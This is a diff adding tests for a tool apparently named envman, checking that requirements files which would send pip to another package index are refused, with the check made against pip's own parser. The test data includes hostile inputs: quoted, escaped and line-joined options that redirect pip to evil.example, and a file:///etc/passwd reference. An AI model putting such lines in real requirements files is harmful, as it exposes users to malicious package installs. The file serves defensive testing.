@@ -10,6 +10,7 @@ import ast
 import json
 import os
 import re
+import shlex
 import socket
 import stat
 import threading
@@ -1616,3 +1617,57 @@ def test_each_protected_path_says_what_it_is(home, tmp_path, monkeypatch):
         monkeypatch.setenv(var, f"unix://{sock}")
         policy._CACHE.clear()
         assert policy.forbidden_reason(str(sock)) == f"{sock} is the container engine's socket ({sock})"
+
+
+#: What pip reads from a requirements file that would send it past envman's index (the ``dest`` of
+#: each such option in pip's own parser).
+PIP_REDIRECT_DESTS = ("index_url", "extra_index_urls", "no_index", "constraints", "requirements", "editables",
+                      "find_links", "trusted_hosts", "features_enabled", "global_options", "config_settings")
+
+#: Pieces a hostile requirements file is made of: quoting, backslashes (escapes and line joins),
+#: tabs, comments, allowed and redirecting options, abbreviations and short forms.
+REQ_PIECES = st.sampled_from([
+    "torch", "rich==13.7.1", " ", "  ", "\t", "\n", "\\", "\\\n", '"', "'", "#", "=", "-", "--",
+    "--pre", "--hash", "--hash=sha256:" + "c" * 64, "--only-binary", ":all:", "--require-hashes",
+    "--index-url", "--index-url=http://evil.example/simple", "--extra-index-url", "--ind", "-i", "-ihttp://x",
+    "-r", "-rfile.txt", "-e", "git+https://x/y", "-f", "--find-links", "--trusted-host", "evil.example",
+    "--constr", "-c", "http://evil.example/simple", "./local", "file:///etc/passwd", "pkg @ ", "--no-index",
+    "--global-option", "--config-settings", "--use-feature", "-\\-index-url", "\\-i", "'--index-url=x'",
+])
+
+
+def _pip_reads_a_redirect(text: str) -> bool:
+    """Whether pip (the copy installed with the tests), reading ``text`` as a requirements file,
+    would set any option of :data:`PIP_REDIRECT_DESTS`."""
+    from pip._internal.req.req_file import break_args_options, build_parser, preprocess
+
+    parser = build_parser()
+    for _, line in preprocess(text):
+        _, options = break_args_options(line)
+        try:
+            values, _ = parser.parse_args(shlex.split(options))
+        except Exception:
+            continue  # pip stops the build on this line: nothing is redirected
+        defaults = parser.get_default_values()
+        if any(getattr(values, d, None) != getattr(defaults, d, None) for d in PIP_REDIRECT_DESTS):
+            return True
+    return False
+
+
+@given(st.lists(REQ_PIECES, min_size=1, max_size=12).map("".join))
+@settings(max_examples=1500, deadline=None)
+def test_no_requirements_file_pip_reads_as_a_redirect_is_accepted(text):
+    """The rule, checked against pip's own parser: whatever envman accepts, pip reads as package
+    requirements and the listed options only, whatever the quoting, escapes, tabs or joins."""
+    if _pip_reads_a_redirect(text):
+        assert _refused(text), repr(text)
+
+
+@pytest.mark.parametrize("line", [
+    '--pre "--index-url=http://evil.example/simple"', "--pre \\--extra-index-url=http://x", '--pre "-e" git+https://x/y',
+    '--require-hashes "--trusted-host" evil.example', '--pre "-f" http://evil/links', "--pre '-ihttp://x'",
+    "torch\t--index-url=http://x", "--pre --ind\\\nex-url=http://x", '--pre "unclosed', "--pre torch",
+    "--hash",
+])
+def test_quoted_escaped_or_joined_options_are_refused(line):
+    assert _refused(line)
